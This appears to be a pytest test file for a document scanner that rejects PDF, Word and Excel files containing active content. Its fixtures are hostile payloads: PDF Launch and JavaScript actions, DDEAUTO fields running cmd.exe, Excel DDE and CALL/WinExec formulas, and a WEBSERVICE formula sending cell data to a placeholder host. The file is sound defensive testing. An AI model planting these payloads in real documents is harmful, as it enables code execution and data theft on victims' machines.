"""What acts by itself in documents, wherever it hides: each a file that real programs would read."""

import base64
from collections.abc import Mapping

import pytest
from pikepdf import Array, Dictionary, Name, Object

from mediation.inspection import kinds, process
from mediation.inspection.verdicts import Unfit, Why
from tests.mediation.documents import files

W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def verdict(name: str, content: bytes) -> str:
    try:
        process.maker(kinds.kind_of(name, content).name)(content)
    except Unfit as unfit:
        return unfit.why
    return "kept"


def word(body: bytes, parts: Mapping[str, bytes] | None = None) -> bytes:
    document = b"<w:document %s><w:body><w:p>%s</w:p></w:body></w:document>" % (W, body)
    return files.folder({"word/document.xml": document, **(parts or {})})


def excel(body: bytes = b"", parts: Mapping[str, bytes] | None = None) -> bytes:
    sheet = b"<worksheet %s><sheetData><row><c>%s</c></row></sheetData></worksheet>" % (S, body)
    return files.folder({"xl/worksheets/sheet1.xml": sheet, **(parts or {})}, main="xl/workbook.xml")


def run(text: bytes) -> bytes:
    return b"<w:r><w:instrText>%s</w:instrText></w:r>" % text


def mark(kind: bytes) -> bytes:
    return b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


def field(*texts: bytes) -> bytes:
    return mark(b"begin") + b"".join(map(run, texts)) + mark(b"separate") + b"<w:r/>" + mark(b"end")


def relation(kind: bytes, target: bytes = b"a.xml", mode: bytes = b"") -> bytes:
    return files.RELS % (files.LINK % (kind, target, mode))


ACTIONS: dict[str, Object] = {
    "JavaScript": Dictionary(S=Name.JavaScript, JS="app.alert(1)"),
    "Launch": Dictionary(S=Name.Launch, F="cmd.exe"),
    "SubmitForm": Dictionary(S=Name.SubmitForm, F="http://example.invalid"),
    "ImportData": Dictionary(S=Name.ImportData, F="a.fdf"),
    "GoToR": Dictionary(S=Name.GoToR, F="other.pdf"),
    "GoToE": Dictionary(S=Name.GoToE),
    "URI file": Dictionary(S=Name.URI, URI="file:///etc/passwd"),
    "URI script": Dictionary(S=Name.URI, URI=" JavaScript:alert(1)"),
    "Rendition": Dictionary(S=Name.Rendition),
    "RichMedia": Dictionary(Type=Name.Annot, Subtype=Name.RichMedia),
    "XFA": Dictionary(XFA=Array(["x"])),
    "AA": Dictionary(AA=Dictionary(O=Dictionary(S=Name.URI, URI="http://example.org"))),
    "EmbeddedFile": Dictionary(Type=Name.Filespec, EF=Dictionary()),
    "Movie": Dictionary(Subtype=Name.Movie),
    "3D": Dictionary(Subtype=Name("/3D")),
}


@pytest.mark.parametrize("name", ACTIONS)
def test_what_acts_is_found_in_a_stream_of_objects_behind_a_predictor(name):
    assert b"/JavaScript" not in (content := files.packed_pdf(PieceInfo=ACTIONS[name]))
    assert verdict("a.pdf", content) == Why.ACTS


@pytest.mark.parametrize("filters", ["/ASCIIHexDecode", "/ASCII85Decode", "/RunLengthDecode"])
def test_what_acts_is_found_behind_any_filter_also_one_that_stands_elsewhere(filters):
    packed = {
        "/ASCIIHexDecode": b"/JavaScript".hex().encode() + b">",
        "/ASCII85Decode": base64.a85encode(b"/JavaScript") + b"~>",
        "/RunLengthDecode": bytes([10]) + b"/JavaScript" + bytes([128]),
    }[filters]
    stream = b"<</Type/ObjStm/N 1/First 4/Filter 5 0 R/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    assert verdict("a.pdf", files.pdf(stream, filters.encode())) == Why.ACTS


@pytest.mark.parametrize("action", [Name.JavaScript, Name.Launch, Name.Named, Name.URI, Name.GoToR])
def test_nothing_but_its_own_page_is_opened_by_itself(action):
    assert verdict("a.pdf", files.packed_pdf(OpenAction=Dictionary(S=action, N=Name.Print))) == Why.ACTS


@pytest.mark.parametrize(
    "harmless",
    [
        {"OpenAction": Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))},
        {"PieceInfo": Dictionary(S=Name.URI, URI="https://www.example.org/")},
        {"PieceInfo": Dictionary(Title="/JavaScript in words")},
    ],
)
def test_a_pdf_that_only_shows_is_kept(harmless):
    assert verdict("a.pdf", files.packed_pdf(**harmless)) == "kept"


def test_a_stream_whose_bytes_stand_in_another_file_is_refused():
    assert verdict("a.pdf", files.pdf(b"<</F(http://example.invalid/a)/Length 0>>stream\n\nendstream")) == Why.ACTS


def test_a_tree_of_pages_that_leads_back_into_itself_is_refused():
    assert verdict("a.pdf", files.pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")) == Why.UNREADABLE


WORDS_ACT: dict[str, bytes] = {
    "DDEAUTO": word(field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "DDE in pieces": word(field(b" D", b"DE ", b"cmd")),
    "DDE small": word(field(b" dde cmd ")),
    "DDE made by another field": word(mark(b"begin") + field(b" QUOTE 68 68 69 ") + run(b" cmd ") + mark(b"end")),
    "DDE within another field": word(mark(b"begin") + run(b" PAGE ") + field(b" DDE cmd ") + mark(b"end")),
    "DDE without marks": word(run(b" DDEAUTO cmd ")),
    "DDE over two paragraphs": word(mark(b"begin") + run(b" DD") + b"</w:p><w:p>" + run(b"E cmd ") + mark(b"end")),
    "simple field": word(b'<w:fldSimple w:instr=" INCLUDEPICTURE http://example.invalid/a "/>'),
    "simple field spelt out": word(b'<w:fldSimple w:instr=" &#68;DE cmd "/>'),
    "included picture": word(field(b' INCLUDEPICTURE "http://example.invalid/a.png" ')),
    "included text": word(field(b' INCLUDETEXT "\\\\\\\\host\\\\share\\\\a.docx" ')),
    "macro button": word(field(b" MACROBUTTON Open Press ")),
    "link": word(field(b" LINK Excel.Sheet.12 a.xlsx ")),
    "database": word(field(b" DATABASE \\\\d a.mdb ")),
    "hyperlink to a program": word(field(b' HYPERLINK "file:///c:/a.exe" ')),
    "other part of the file": word(b'<w:altChunk w:id="1"/>'),
    "other part": word(b"", {"word/_rels/document.xml.rels": relation(b"aFChunk", b"a.html")}),
    "page in it": word(b"", {"word/afchunk.htm": b"<html/>"}),
    "document in it": word(b'<w:subDoc w:id="1"/>'),
    "object": word(b"<w:object/>"),
    "control": word(b"<w:control/>"),
    "letters": word(b"", {"word/settings.xml": b"<w:settings %s><w:mailMerge/></w:settings>" % W}),
    "template": word(b"", {"word/settings.xml": b"<w:settings %s><w:attachedTemplate/></w:settings>" % W}),
    "template away": word(b"", {"word/_rels/settings.xml.rels": files.linked(b"attachedTemplate")}),
    "picture away": word(b"", {"word/_rels/document.xml.rels": files.linked(b"image")}),
    "frame": word(b"", {"word/_rels/webSettings.xml.rels": files.linked(b"frame")}),
    "link to a share": word(b"", {"word/_rels/document.xml.rels": files.linked(b"hyperlink", b"file://host/a")}),
    "link to a script": word(b"", {"word/_rels/document.xml.rels": files.linked(b"hyperlink", b" javascript:x")}),
    "macros by type": word(b"", {"[Content_Types].xml": files.types(b"application/vnd.ms-office.vbaProject")}),
    "add-in": word(b"", {"word/webextensions/taskpanes.xml": b"<taskpanes/>"}),
    "ribbon": word(b"", {"customUI/customUI.xml": b"<a/>"}),
    "old document in it": word(b"", {"word/media/a.png": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(60)}),
    "program in it": word(b"", {"word/media/a.emf": b"MZ" + bytes(60)}),
    "drawing with a script": word(b"", {"word/media/a.svg": b"<svg><script>1</script></svg>"}),
    "drawing from away": word(b"", {"word/a.vml": b'<x xmlns:v="v"><v:imagedata src="http://example.invalid/a"/></x>'}),
    "entities": word(b"", {"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
}


@pytest.mark.parametrize("name", WORDS_ACT)
def test_a_word_file_that_acts_is_refused(name):
    assert verdict("a.docx", WORDS_ACT[name]) == Why.ACTS


EXCEL_ACTS: dict[str, bytes] = {
    "web service": excel(b'<f>WEBSERVICE("http://example.invalid/?"&amp;A1)</f>'),
    "web service small": excel(b"<f>_xlfn.webservice(A1)</f>"),
    "in a sum": excel(b"<f>SUM(A1,_xlfn.WEBSERVICE(A2))</f>"),
    "DDE": excel(b"<f>cmd|'/c calc'!A0</f>"),
    "DDE after words": excel(b"<f>\"a\"&amp;cmd|'/c calc'!A0</f>"),
    "real time data": excel(b'<f>RTD("a.b",,"c")</f>'),
    "call": excel(b'<f>CALL("kernel32","WinExec","JC","calc")</f>'),
    "picture": excel(b'<f>_xlfn.IMAGE("http://example.invalid/a")</f>'),
    "other book": excel(b"<f>[1]Sheet1!A1</f>"),
    "other book by its place": excel(b"<f>'C:\\a\\[b.xlsx]Sheet1'!A1</f>"),
    "in a rule": excel(parts={"xl/worksheets/sheet2.xml": b"<a %s><formula1>WEBSERVICE(A1)</formula1></a>" % S}),
    "macro at the opening": excel(parts={"xl/a.xml": b'<a %s><definedName name="Auto_Open">A1</definedName></a>' % S}),
    "macro of old": excel(parts={"xl/a.xml": b'<a %s><definedName name="x" xlm="1">A1</definedName></a>' % S}),
    "named DDE": excel(parts={"xl/a.xml": b"<a %s><definedName name='x'>cmd|'/c'!A0</definedName></a>" % S}),
    "connections": excel(parts={"xl/connections.xml": b"<connections %s/>" % S}),
    "query": excel(parts={"xl/queryTables/queryTable1.xml": b"<queryTable %s/>" % S}),
    "relation to connections": excel(parts={"xl/_rels/workbook.xml.rels": relation(b"connections")}),
    "other books": excel(parts={"xl/a.xml": b"<workbook %s><externalReferences/></workbook>" % S}),
    "DDE link": excel(parts={"xl/a.xml": b"<externalLink %s><ddeLink/></externalLink>" % S}),
    "controls": excel(parts={"xl/a.xml": b"<worksheet %s><controls/></worksheet>" % S}),
}


@pytest.mark.parametrize("name", EXCEL_ACTS)
def test_an_excel_file_that_acts_is_refused(name):
    assert verdict("a.xlsx", EXCEL_ACTS[name]) == Why.ACTS


@pytest.mark.parametrize(
    "content",
    [
        word(b"<w:r><w:t>DDEAUTO, WEBSERVICE and altChunk in words</w:t></w:r>"),
        word(field(b" PAGE ") + field(b' HYPERLINK "https://example.org" ') + field(b" TOC \\o ")),
        word(mark(b"begin") + run(b" = ") + field(b" PAGE ") + run(b" + 1 ") + mark(b"end")),
        word(b"", {"word/_rels/document.xml.rels": files.linked(b"hyperlink", b"mailto:a@example.org")}),
        word(b"", {"word/media/a.png": files.picture(), "word/media/a.svg": b'<svg><image href="#a"/></svg>'}),
    ],
)
def test_a_word_file_that_only_shows_is_kept(content):
    assert verdict("a.docx", content) == "kept"


@pytest.mark.parametrize(
    "formula",
    [
        b"SUM(A1:A9)*1.5",
        b"IF(A1=&quot;cmd|x&quot;,&quot;[1]&quot;,0)",
        b"SUM(Wages[Sum])",
        b"SUM(Wages[2026])",
        b"SUM(Wages[[#This Row],[Sum]])",
        b"VLOOKUP(A1,'2026'!$A$1:$B$9,2,FALSE)",
        b"&quot;CALL(&quot;&amp;A1",
    ],
)
def test_an_excel_file_that_only_reckons_is_kept(formula):
    assert verdict("a.xlsx", excel(b"<f>%s</f>" % formula)) == "kept"


@pytest.mark.parametrize("body", [b"<a>", b"<a/><b/>", b"a", b"", b"<a b='1' b='2'/>", b"<a>\xff</a>"])
def test_markup_that_is_none_is_refused(body):
    assert verdict("a.docx", word(b"", {"word/a.xml": body})) == Why.UNREADABLE


def test_markup_too_deep_too_long_or_in_an_odd_codec_is_refused():
    deep = b"<a>" * 300 + b"</a>" * 300
    assert verdict("a.docx", word(b"", {"word/a.xml": deep})) == Why.UNPACKS
    fields = (mark(b"begin") + run(b" = ")) * 30
    assert verdict("a.docx", word(fields)) == Why.UNPACKS
    odd = b"<?xml version='1.0' encoding='bz2_codec'?><a/>"
    assert verdict("a.docx", word(b"", {"word/a.xml": odd})) == Why.UNREADABLE
    assert verdict("a.xlsx", excel(b"<f>%s</f>" % (b"A1+" * 20_000))) == Why.ACTS
